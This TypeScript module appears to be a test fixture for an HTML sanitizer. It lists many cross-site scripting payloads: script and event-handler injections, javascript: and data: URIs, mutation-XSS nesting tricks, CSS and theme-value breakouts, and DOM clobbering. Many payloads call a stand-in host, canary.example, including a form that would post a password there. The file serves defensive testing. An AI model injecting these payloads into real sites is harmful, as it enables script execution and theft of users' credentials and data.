/** The address to which hostile texts would report, and no request may go. */
export const canary = 'https://canary.example';

/** The code that a hostile text would run; tests look for `hit` afterwards. */
const run = `window.hit=1;document.title='hit';alert(1)`;
const encoded = run
  .split('')
  .map((letter) => `&#${letter.charCodeAt(0)};`)
  .join('');
const js = `javascript:${run}`;

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script/x>${run}</script >`,
  `<script src="${canary}/1.js"></script>`,
  `<script src=//canary.example/2.js></script>`,
  `<script type=module>import '${canary}/3.js'</script>`,
  `<script type=importmap>{"imports":{"a":"${canary}/4.js"}}</script>`,
  `<script\n>${run}</script\n>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script>${run}`,
  `</script><script>${run}</script>`,
  `<script>/*</script><script>*/${run}</script>`,
  `<<script>${run}//<</script>`,
  `<script\u0000>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${encodeURIComponent(run)}"/></svg>`,
  `<svg><script xlink:href="${canary}/5.js"></script></svg>`,
  `<math><script>${run}</script></math>`,
  `"><script>${run}</script>`,
  `'-->]]></style></title></textarea><script>${run}</script>`,
];

const handlers = [
  ...['onerror', 'ONERROR', 'onerror\t', 'onerror\n', 'onload'].map((on) => `<img src=x ${on}=${JSON.stringify(run)}>`),
  ...['/', '\f', '\r', '\v', '\u00A0', '\u3000'].map((gap) => `<img${gap}src=x${gap}onerror="${run}">`),
  ...['body', 'svg', 'iframe', 'object', 'embed', 'style', 'link', 'frameset'].map((tag) => `<${tag} onload="${run}">`),
  ...['input', 'select', 'textarea', 'button', 'keygen', 'a href=#', 'p tabindex=1 contenteditable'].map(
    (tag) => `<${tag} autofocus onfocus="${run}">x`,
  ),
  `<video><source onerror="${run}"></video>`,
  `<video src=x onerror="${run}"></video>`,
  `<video poster="${canary}/6.png" controls onloadstart="${run}"><source src=x></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<details open ontoggle="${run}">x</details>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<p style="animation:spin 1s" onanimationstart="${run}">x</p>`,
  `<p style="transition:color 1s" ontransitionend="${run}">x</p>`,
  `<p onpointerover="${run}" onmouseover="${run}" onclick="${run}">x</p>`,
  `<dialog open oncancel="${run}" onclose="${run}">x</dialog>`,
  `<img src=x onerror=${encoded}>`,
  `<img src=x onerror=&#x61;lert(1)>`,
  `<img src="x\` \`<script>${run}</script>"\` \`>`,
  `<img src='x'onerror='${run}'>`,
  `<img src=x:x onerror="eval(atob('${btoa(run)}'))">`,
  `<p popover id=p onbeforetoggle="${run}">x</p><button popovertarget=p>x</button>`,
  `<a href="/faq" onauxclick="${run}">x</a>`,
];

const addresses = [
  js,
  `JaVaScRiPt:${run}`,
  ` \t\n${js}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\rscript:${run}`,
  `\u0001${js}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61vascript:${run}`,
  `javascript&colon;${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `javascript://%0a${run}`,
  `javascript:/*--></title></style>*/${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${run}</script>`,
  `vbscript:msgbox(1)`,
  `blob:${canary}/7`,
  `file:///etc/passwd`,
  `view-source:${canary}/8`,
  `filesystem:${canary}/9`,
  `//canary.example/10`,
  `/\\canary.example/11`,
  `\\\\canary.example\\12`,
  `/\t/canary.example/13`,
  `/%09/canary.example/14`,
  `https:canary.example/15`,
  `https://localhost@canary.example/16`,
  `http://[`,
  `https://[::1`,
  `https://\u202Egnp.elpmaxe.yranac`,
  `intent://canary.example/#Intent;scheme=https;end`,
];

const links = addresses.flatMap((address) => [
  `<a href="${address.replaceAll('"', '&quot;')}">x</a>`,
  `<img src="${address.replaceAll('"', '&quot;')}" alt="x">`,
]);

const foreign = [
  `<svg/onload="${run}">`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="${js}"/><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${run}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=a onload='${run}'/>#a"/></svg>`,
  `<svg><image href="${canary}/17.png"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${run}"></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror='${run}'>">`,
  `<svg><title><p><img src=x onerror="${run}"></p></title></svg>`,
  `<svg><desc><img src=x onerror="${run}"></desc></svg>`,
  `<math href="${js}">x</math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${run}'&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src onerror="${run}">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run}"></style></annotation-xml></math>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
  `<noembed><img src=x onerror="${run}"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror='${run}'>">`,
  `<textarea></textarea><img src=x onerror="${run}"></textarea>`,
  `<title><p title="</title><img src=x onerror='${run}'>">`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror="${run}"></template>`,
  `<table><tr><td><svg><tr><style></svg><img src=x onerror="${run}">`,
  `<select><option><style></select><img src=x onerror="${run}"></style>`,
  `<!--><img src=x onerror="${run}">-->`,
  `<!--!><img src=x onerror="${run}">--!>`,
  `<![CDATA[><img src=x onerror="${run}">]]>`,
  `<?xml-stylesheet href="${js}"?><img src=x onerror="${run}">`,
  `<!DOCTYPE x [<!ENTITY x SYSTEM "${canary}/18">]><p>&x;</p>`,
  `${'<p>'.repeat(600)}<img src=x onerror="${run}">`,
];

const documents = [
  `<iframe src="${canary}/19"></iframe>`,
  `<iframe src="${js}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=&quot;parent.${run}&quot;&gt;"></iframe>`,
  `<object data="${canary}/20"></object>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="${canary}/21.swf">`,
  `<frameset><frame src="${js}"></frameset>`,
  `<portal src="${canary}/22"></portal>`,
  `<meta http-equiv=refresh content="0;url=${canary}/23">`,
  `<meta http-equiv=refresh content="0;url=${js}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<base href="${canary}/24/">`,
  `<link rel=stylesheet href="${canary}/25.css">`,
  `<link rel=prefetch href="${canary}/26">`,
  `<link rel=manifest href="${canary}/27">`,
  `<form action="${canary}/28"><input name=password autofocus><button>x</button></form>`,
  `<form id=f></form><button form=f formaction="${js}">x</button>`,
  `<isindex action="${js}" type=image>`,
  `<input type=image src="${canary}/29.png">`,
  `<img srcset="${canary}/30.png 1x" src="/avatar/1.webp" alt="x">`,
  `<picture><source srcset="${canary}/31.png"><img src="/avatar/1.webp" alt="x"></picture>`,
  `<table background="${canary}/32.png"><tr><td>x</table>`,
  `<a href="/faq" ping="${canary}/33">x</a>`,
  `<style>@import '${canary}/34.css';*{background:url(${canary}/35.png)}</style>`,
  `<p style="background:url(${canary}/36.png)">x</p>`,
  `<p style="background:u\\72l('${canary}/37.png')">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p style="behavior:url(${canary}/38.htc);-moz-binding:url(${canary}/39.xml#x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999;background:red">x</p>`,
  `<a id=app name=app href="/faq">x</a><form id=stores name=starter></form>`,
  `<img name=getElementById alt="x"><img name=body alt="x"><form name=cookie></form>`,
  `<a id=config><a id=config name=operator href="${canary}/40">x</a>`,
  `<form name=attributes><input name=parentNode><input name=nodeName></form>`,
  `<p is="x-hit" slot=x part=x exportparts=x>x</p>`,
  `<img alt="\`><script>${run}</script>" src="\`">`,
  `<p title='"&gt;&lt;img src=x onerror=${run}&gt;'>x</p>`,
  `<img src="/avatar/1.webp" usemap="#m" alt="x"><map name=m><area shape=default href="${js}"></map>`,
  `%3Cscript%3E${encodeURIComponent(run)}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\u00BCscript\u00BE${run}\u00BC/script\u00BE`,
  `{{constructor.constructor("${run}")()}}`,
  '${' + run + '}',
  `<%= ${run} %>`,
];

/** Texts that would run, load or navigate if treated as anything but text. */
export const vectors = [...scripts, ...handlers, ...links, ...foreign, ...documents];

/** Addresses that links, pictures and return addresses must not use. */
export const hostileAddresses = addresses;

const css = ['}', ';', `url(${canary}/41.png)`, 'expression(alert(1))', `@import '${canary}/42.css'`, 'var(--x,red)'];
/** Themes that would break out of the values that a theme may set. */
export const hostileThemes = css.map((value) => JSON.stringify({ '--gold': `red${value}`, [`--x${value}`]: 'red' }));
